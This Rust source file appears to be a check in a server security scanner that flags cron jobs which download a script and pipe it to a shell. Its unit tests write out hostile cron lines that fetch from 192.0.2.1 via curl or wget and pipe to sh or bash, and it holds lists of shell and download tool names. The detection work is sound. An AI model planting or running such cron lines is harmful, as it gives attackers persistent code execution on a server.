//! Tables of cron that run what they fetch.

use crate::checks::{Check, Context, Findings};
use crate::finding::Severity;
use crate::input::Kind;
use crate::site::Want;

pub(in crate::checks) static CHECK: Check = Check {
    id: "ioc-cron-download",
    code: "IOC-006",
    title: "A cron job that runs what it downloads",
    description: "Attackers come back by a cron job that fetches a script and gives it to a shell.",
    severity: Severity::High,
    cwe: &[506, 494],
    fix: "Find out who wrote the line. If nobody did, take it out, and treat the server as taken over.",
    references: &["https://attack.mitre.org/techniques/T1053/003/"],
    wants: &[
        Want::name("crontab"),
        Want::end(".crontab"),
        Want::end(".cron"),
        Want::name("cron.d"),
        Want::name("crontabs"),
        Want::name("cron"),
    ],
    run,
};

/// More files than this in one directory are not tables of cron.
const MAX_FILES: usize = 1000;

fn run(context: &Context<'_>, found: &mut Findings) {
    for (path, kind) in context
        .index
        .all()
        .filter(|(path, _)| !context.is_aside(path))
    {
        let name = path
            .rsplit('/')
            .next()
            .unwrap_or_default()
            .to_ascii_lowercase();
        let is_directory = matches!(name.as_str(), "cron.d" | "crontabs" | "cron");
        let is_table = name == "crontab" || name.ends_with(".crontab") || name.ends_with(".cron");
        match kind {
            Kind::Directory if is_directory => {
                for name in context.files.list(path).into_iter().take(MAX_FILES) {
                    look(context, &format!("{path}/{name}"), found);
                }
            }
            Kind::File if is_table => look(context, path, found),
            _ => {}
        }
    }
}

fn look(context: &Context<'_>, path: &str, found: &mut Findings) {
    let Some(text) = context.files.text(path) else {
        return;
    };
    for (number, line) in (1..).zip(text.lines()) {
        if command(line).is_some_and(runs_download) {
            found
                .report(path, "A cron job gives what it downloads to a shell.")
                .at_line(number);
        }
    }
}

/// What follows the times: five of them, or `@reboot`.
fn command(line: &str) -> Option<&str> {
    let line = line.trim();
    if line.starts_with('@') {
        return line
            .split_once(char::is_whitespace)
            .map(|(_, command)| command);
    }
    let mut rest = line;
    for _ in 0..5 {
        let (time, after) = rest.split_once(char::is_whitespace)?;
        let is_time = time
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"*,-/?#".contains(&byte));
        if !is_time || !time.contains(|c: char| c.is_ascii_digit() || c == '*' || c == '?') {
            return None;
        }
        rest = after.trim_start();
    }
    Some(rest)
}

/// `curl … | sh`, `sh -c "$(curl …)"`, `echo … | base64 -d | bash`, `wget -O /tmp/x … && sh /tmp/x`.
fn runs_download(command: &str) -> bool {
    let words = |text: &str| -> Vec<String> {
        let parts = text.split(|c: char| c.is_whitespace() || "\"'`$();&".contains(c));
        let names = parts
            .filter(|part| !part.is_empty())
            .map(|part| part.rsplit('/').next().unwrap_or(part));
        names.map(str::to_owned).collect()
    };
    let is_shell = |word: &str| {
        matches!(
            word,
            "sh" | "bash" | "zsh" | "dash" | "ash" | "php" | "perl" | "python" | "python3"
        )
    };
    let fetches = |word: &str| matches!(word, "curl" | "wget" | "fetch" | "lwp-download");
    let stages: Vec<Vec<String>> = command
        .split('|')
        .filter(|stage| !stage.is_empty())
        .map(words)
        .collect();
    let mut brings = false;
    for stage in &stages {
        let first = stage
            .iter()
            .find(|word| !matches!(word.as_str(), "sudo" | "nohup" | "env"));
        if brings && first.is_some_and(|word| is_shell(word)) {
            return true;
        }
        let decodes = stage.iter().any(|word| word == "base64")
            && stage.iter().any(|word| word == "-d" || word == "--decode");
        brings |= decodes || stage.iter().any(|word| fetches(word));
        let substituted = command.contains("$(") || command.contains('`') || command.contains("<(");
        let is_given = stage
            .iter()
            .position(|word| is_shell(word))
            .zip(stage.iter().position(|word| fetches(word)));
        if substituted && is_given.is_some_and(|(shell, fetch)| shell < fetch) {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_downloaded_and_run_is_told_from_what_is_downloaded() {
        let is_bad = |line: &str| command(line).is_some_and(runs_download);
        assert!(is_bad("*/5 * * * * curl -fsSL http://192.0.2.1/a | sh"));
        assert!(is_bad(
            "@reboot wget -qO- http://192.0.2.1/a|bash >/dev/null"
        ));
        assert!(is_bad("0 * * * * root echo aGk= | base64 -d | /bin/bash"));
        assert!(is_bad(
            "0 0 * * 1-5 bash -c \"$(curl -s http://192.0.2.1/)\""
        ));
        assert!(!is_bad(
            "*/5 * * * * curl -s https://example.com/wp-cron.php > /dev/null"
        ));
        assert!(!is_bad(
            "0 3 * * * wget -q https://example.com/cron | logger"
        ));
        assert!(!is_bad("0 3 * * * mysqldump db | gzip > a.gz"));
        assert!(!is_bad("# */5 * * * * curl http://192.0.2.1 | sh"));
        assert!(!is_bad("curl https://example.com/install | sh"));
    }
}
